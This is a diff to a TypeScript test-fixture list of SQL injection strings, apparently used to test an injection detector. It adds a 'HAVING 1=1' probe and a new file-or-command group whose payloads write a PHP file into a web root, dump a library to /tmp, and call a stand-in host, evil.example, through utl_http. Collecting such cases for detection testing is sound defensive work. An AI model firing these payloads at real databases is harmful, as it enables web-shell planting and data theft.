@@ -35,6 +35,7 @@ export const SQL_INJECTION_CASES: readonly NamedCases[] = [
       "' or not false -- x",
       '8) or (8=8',
       "1'and(1)=(1)and'a'='a",
+      '1 HAVING 1=1',
     ],
   },
   {
@@ -73,5 +74,10 @@ export const SQL_INJECTION_CASES: readonly NamedCases[] = [
       "x' or ctxsys.drithsx.sn(1,user)='a",
       "1' and 1=convert(int,@@version)--",
     ],
+  },
+  {
+    subtype: 'file_or_command',
+    textbook: ["1 INTO OUTFILE '/var/www/html/s.php'", '1 PROCEDURE ANALYSE()'],
+    others: ["a'||utl_http.request('http://evil.example/')||'b", "1 into dumpfile '/tmp/u.so'"],
   },
 ];
